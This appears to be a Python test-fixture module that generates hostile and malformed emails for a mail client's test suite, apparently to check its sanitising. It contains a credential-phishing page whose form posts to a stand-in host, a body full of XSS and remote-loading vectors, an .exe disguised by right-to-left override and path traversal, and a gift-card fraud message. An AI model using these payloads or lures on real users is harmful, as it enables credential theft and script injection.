# SPDX-License-Identifier: GPL-3.0-or-later
"""Mail that is broken or means harm, drafts, and what lies in Junk and Trash."""

from . import files, people
from .message import Filed, compose, date_header

DAY = 86400
ME = people.OWNER

PHISHING = """<html><body style="font-family:Arial"><div style="background:#00457c;color:#fff;padding:14px"><b>Bank of the Coast</b></div>
<p>Dear customer, your account has been <b>limited</b>. Confirm your identity within 24 hours:</p>
<p><a href="http://coastbank.example.login-check.example.net/verify?id=83">https://www.coastbank.example/login</a></p>
<form action="https://login-check.example.net/take" method="post">Password: <input type="password" name="p"><button>Confirm</button></form>
<script>document.forms[0].submit()</script><img src="https://login-check.example.net/seen.png" width=1 height=1></body></html>"""

ACTIVE = """<html><head><script>alert('script in head')</script><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="dns-prefetch" href="//leak.evil.example"><base href="https://evil.example/"><style>@import url(https://evil.example/a.css);
body{background:url(https://evil.example/bg.png)} @font-face{font-family:x;src:url(https://evil.example/f.woff)} p{position:fixed}</style></head>
<body onload="alert(1)" background="https://evil.example/b.png"><p onclick="alert(2)">Everything active in this message must be gone, and this sentence must stay.</p>
<iframe src="https://evil.example/"></iframe><svg onload="alert(3)"><image href="https://evil.example/i.svg"/></svg><math><mtext><img src=x onerror=alert(4)></mtext></math>
<a href="javascript:alert(5)">a link that goes nowhere</a> <a href="data:text/html,<script>alert(6)</script>">another</a>
<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video><object data="https://evil.example/o"></object>
<input autofocus onfocus="alert(7)"><noscript><p title="</noscript><img src=x onerror=alert(8)>"></noscript></body></html>"""


def raw(date, text, **values):
    text = text.replace("{date}", date_header(date)).lstrip("\n")
    for name, value in values.items():
        text = text.replace("{%s}" % name, value)
    return text.replace("\n", "\r\n").encode("latin-1", "surrogateescape")


def phishing(date):
    return compose(date, ("service@coastbank.example", "notice@login-check.example.net"), [ME], "Your account is limited", "Please see the HTML part.", PHISHING,
                   headers=[("Reply-To", "take@login-check.example.net")])


def active(date):
    return compose(date, ("Eve", "eve@evil.example"), [ME], "An entirely active page", "The HTML part tries everything.", ACTIVE)


def two_senders(date):
    return raw(date, """
From: Ines Carvalho <ines@northlight.example> <eve@evil.example>
To: robin@example.org
Date: {date}
Subject: Quick favour, before the meeting
Message-ID: <two-senders@evil.example>

Robin, please buy five gift cards and send me the codes. I am in a meeting.
""")


def disguised_name(date):
    return raw(date, """
From: =?utf-8?Q?Ines_Carvalho_=E2=80=AE=3Celpmaxe=2Ethgilhtron=40seni=3E?= <x@evil.example>
To: robin@example.org
Date: {date}
Subject: =?utf-8?Q?Invoice_=E2=80=AEfdp=2Eexe?= =?utf-8?B?IG5ldw==?=
Message-ID: <disguised@evil.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=x

--x
Content-Type: text/plain

The file name below is written backwards, and the sender's too.
--x
Content-Type: application/pdf; name="=?utf-8?Q?invoice_=E2=80=AEfdp=2Eexe?="
Content-Disposition: attachment; filename*=utf-8''..%2F..%2Finvoice%20%E2%80%AEfdp.exe
Content-Transfer-Encoding: base64

TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA=
--x--
""")


def lying_charset(date):
    return raw(date, """
From: Karl Weiss <karl@weiss.example>
To: robin@example.org
Date: {date}
Subject: =?iso-8859-1?Q?Gr=FC=DFe_und_=80_20?=
Message-ID: <lying@weiss.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=iso-8859-1
Content-Transfer-Encoding: 8bit

Lieber Robin, der \x84Fahrplan\x93 kostet 20 \x80 \x96 viel zu viel. Sch\xf6ne Gr\xfc\xdfe, Karl
""")


def says_ascii(date):
    return ("From: Caf\u00e9 Lumi\u00e8re <bonjour@lumiere.example>\r\nTo: robin@example.org\r\nDate: %s\r\nSubject: D\u00e9gustation jeudi\r\n"
            "Message-ID: <ascii@lumiere.example>\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\nCher Robin, d\u00e9gustation jeudi \u00e0 18 h. "
            "Th\u00e9, g\u00e2teaux, et le chat.\r\n" % date_header(date)).encode()


def no_closing_boundary(date):
    return raw(date, """
From: Old Scanner <scanner@copyshop.example>
To: robin@example.org
Date: {date}
Subject: Scan from the copy shop
Message-ID: <cut@copyshop.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="cut-off"

--cut-off
Content-Type: text/plain

The scan is attached. The line dropped while it was being sent.
--cut-off
Content-Type: image/png; name=scan.png
Content-Transfer-Encoding: base64

iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk
""")


def no_headers(date):
    return b"This file begins without any header at all.\r\n\r\nIt was copied into the folder by hand.\r\n"


def empty_fields(date):
    return raw(date, """
From:
To: undisclosed-recipients:;
Date: sometime last week
Subject:
Message-ID: <>

Nothing above this line was filled in.
""")


def deep(date):
    """Forty levels of multipart, a sentence at the bottom."""
    head = "From: Matryoshka <doll@nested.example>\r\nTo: robin@example.org\r\nDate: %s\r\nSubject: Inside the doll\r\nMIME-Version: 1.0\r\n" % date_header(date)
    out = head
    for level in range(40):
        out += "Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (level, level)
    out += "Content-Type: text/plain\r\n\r\nThe smallest doll says hello.\r\n"
    return (out + "".join("--b%d--\r\n" % level for level in reversed(range(40)))).encode()


def flowed(date):
    return compose(date, ("Aster Vance", "aster@vance.example"), [ME], "Wrapped softly",
                   "This paragraph was written by a program that wraps its lines softly, so \nthat a narrow window and a wide one both show it well. If you see a ragged \nedge here, format=flowed "
                   "is not read.\n\n> A quoted line that also \n> flows into the next.\n\n-- \nAster").replace(b'charset="utf-8"', b'charset="utf-8"; format=flowed')


def forwarded(date):
    inner = compose(date - DAY, people.PEOPLE["tom"], [people.PEOPLE["ben"]], "Knots", "Bowline, sheet bend, and the one I invented.\n", received=False)
    return compose(date, people.PEOPLE["ben"], [ME], "Fwd: Knots", "Tom has invented a knot. I'm worried.").replace(
        b"Content-Type: text/plain", b'Content-Type: multipart/mixed; boundary="fw"\r\n\r\n--fw\r\nContent-Type: text/plain', 1) \
        + b"--fw\r\nContent-Type: message/rfc822\r\n\r\n" + inner + b"\r\n--fw--\r\n"


JUNK = [("Dr. Prince Solomon", "prince@winner.example", "You have inherited 4.5 million", "Dear friend, I write to you in strict confidence about a trunk."),
        ("Pills 4 less", "x@pills.example", "\u2605 Cheap \u2605 cheap \u2605 cheap \u2605", "Click here before it is too late, or even after."),
        ("SEO Expert", "seo@rank.example", "Your website is on page 94", "I looked at your site and it made me sad. For 99 a month it could make me happy."),
        ("Crypto Desk", "desk@moon.example", "Robin, your wallet is waiting", "Someone has sent you 0.8 of something. Confirm with your twelve words."),
        ("Coast Post", "parcel@coastpost.example.net", "Your parcel could not be delivered", "Pay a fee of 1.99 to have it sent again: http://coastpost.example.net/pay")]


def build(now):
    tests = [(phishing, "INBOX", 3 * DAY, []), (active, "INBOX", 10 * DAY, ["seen"]), (two_senders, "INBOX", 2 * DAY + 4000, []), (disguised_name, "INBOX", 12 * DAY, ["seen"]),
             (lying_charset, "INBOX", 15 * DAY, ["seen"]), (says_ascii, "INBOX", 18 * DAY, ["seen"]), (no_closing_boundary, "INBOX", 22 * DAY, ["seen"]),
             (no_headers, "INBOX", 410 * DAY, ["seen"]), (empty_fields, "INBOX", 405 * DAY, ["seen"]), (deep, "INBOX", 29 * DAY, ["seen"]),
             (flowed, "INBOX", 31 * DAY, ["seen"]), (forwarded, "INBOX", 17 * DAY, ["seen", "forwarded"])]
    for make, folder, age, flags in tests:
        yield Filed(folder, now - age, make(now - age), set(flags))
    for n in range(15):
        name, mailbox, subject, text = JUNK[n % len(JUNK)]
        date = now - n * 2 * DAY - n * 3301 - 7000
        yield Filed("Junk", date, compose(date, (name, mailbox), [ME], subject, text), {"seen"} if n > 5 else set())
    for n in range(8):
        date = now - (n * 3 + 1) * DAY
        yield Filed("Trash", date, compose(date, ("Fork & Merge", "notify@forge.example"), [ME], "[northlight/tiles] Build %d failed" % (640 + n), "It was the tests. It is always the tests."), {"seen"})
    yield from drafts(now)


def drafts(now):
    def draft(age, *args, **kwargs):
        return Filed("Drafts", now - age, compose(now - age, ME, *args, received=False, **kwargs), {"seen", "draft"})
    yield draft(5 * 3600, [people.PEOPLE["carpenter"]], "Re: Quotation for shelving", "Dear Harriet,\n\nthank you, this looks right. One question about the drawer: could it be ")
    yield draft(3 * DAY, [people.PEOPLE["zoe"]], "Gaston and the hat", "Dear Zoë,\n\nthis time to the right address, I hope.\n", bcc=[people.PEOPLE["sophie"]])
    yield draft(20 * DAY, [], "List for the spring tide", "- bottle\n- Tom\n- rope, the good one\n- ", files=[("checklist.png", "image/png", files.png(9, 320, 160))])
